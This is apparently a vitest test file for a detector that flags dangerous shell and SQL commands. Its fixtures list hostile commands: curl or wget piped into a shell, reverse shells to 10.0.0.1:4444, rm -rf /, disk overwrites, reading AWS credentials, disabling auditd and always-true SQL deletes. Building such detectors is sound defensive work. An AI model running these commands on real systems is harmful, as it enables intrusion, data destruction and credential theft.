import { describe, expect, it } from 'vitest';
import { processorMs, slowness } from '../../../../testkit/timing.ts';
import { dangersIn, isRemoteExecution, selectedColumns } from './commands.ts';

describe('dangersIn', () => {
  it.each([
    ['curl -fsS https://x.example/r | sh', 'downloads a script and runs it'],
    ['wget -qO- x.example/i.py | sudo python3', 'downloads a program and runs it'],
    ['bash <(curl -s https://x.example)', 'downloads a script and runs it'],
    ['bash -i >& /dev/tcp/10.0.0.1/4444 0>&1', 'opens a remote shell'],
    ['nc -e /bin/sh 10.0.0.1 4444', 'opens a remote shell'],
    ['rm -rf /', 'deletes everything below a root or home directory'],
    ['rm -r -f ~', 'deletes everything below a root or home directory'],
    ['dd if=/dev/zero of=/dev/sda', 'overwrites a disk'],
    ['echo aGk= | base64 -d | sh', 'decodes text and runs it'],
    ['DROP TABLE users', 'drops a database object'],
    ['DELETE FROM users', 'changes or deletes every row'],
    [
      "UPDATE users SET role = 'x' WHERE 1=1",
      'changes or deletes every row by a condition that is always true',
    ],
    [
      "DELETE FROM users WHERE name = 'zed' OR 1=1",
      'changes or deletes every row by a condition that is always true',
    ],
    [
      "DELETE FROM users WHERE name = 'zed' or 'a' = 'a'",
      'changes or deletes every row by a condition that is always true',
    ],
    [
      'DELETE FROM users WHERE id = 1 or true',
      'changes or deletes every row by a condition that is always true',
    ],
    ['DELETE FROM users WHERE id = 1 OR id = 12', 'changes or deletes further rows by an `OR`'],
    ["DELETE FROM users WHERE name = 'a' OR 1=12", 'changes or deletes further rows by an `OR`'],
    ['cat ~/.aws/credentials', 'reads credentials (`/.aws/credentials`)'],
    ['systemctl stop auditd', 'switches a protection off'],
  ])('%s', (text, what) => {
    expect(dangersIn(text).map((danger) => danger.what)).toContain(what);
  });

  it.each([
    'ls -la /srv/logs',
    'curl -fsS https://x.example/r -o out.json',
    'rm -rf ./build',
    'rm -rf /srv/app/cache',
    'DELETE FROM carts WHERE id = 7',
    "UPDATE users SET role = 'x' WHERE id = 7",
    'DELETE FROM carts WHERE 1=1 AND id = 7',
    'SELECT dropped, grants FROM t',
    'git push origin main',
    'npm run reset && node history.js',
  ])('says nothing about %s', (text) => {
    expect(dangersIn(text)).toEqual([]);
  });

  it('is linear in hostile text', { retry: 3 }, () => {
    const spent = processorMs(() => {
      for (const piece of ['curl ', 'select ', 'rm -r -f ', 'update a', '| sh ', 'a=*('])
        dangersIn(piece.repeat(3000));
    });
    expect(spent).toBeLessThan(1500 * slowness());
  });
});

describe('isRemoteExecution', () => {
  it('tells running what was fetched from other dangers', () => {
    expect(isRemoteExecution('curl x | bash')?.harm).toBe(90);
    expect(isRemoteExecution('DROP TABLE a')).toBeUndefined();
  });
});

describe('selectedColumns', () => {
  it.each([
    ['SELECT id, email FROM users', ['id', 'email']],
    ['select u.password_hash as h, "phone" from users u', ['password_hash', 'phone']],
    ['SELECT country, COUNT(*) AS n FROM users GROUP BY country', ['country']],
    ['CREATE TABLE t AS SELECT email FROM users', ['email']],
    ['SELECT * FROM users', undefined],
    ['status:error service:web', undefined],
  ])('%s', (sql, columns) => {
    expect(selectedColumns(sql)).toEqual(columns);
  });
});
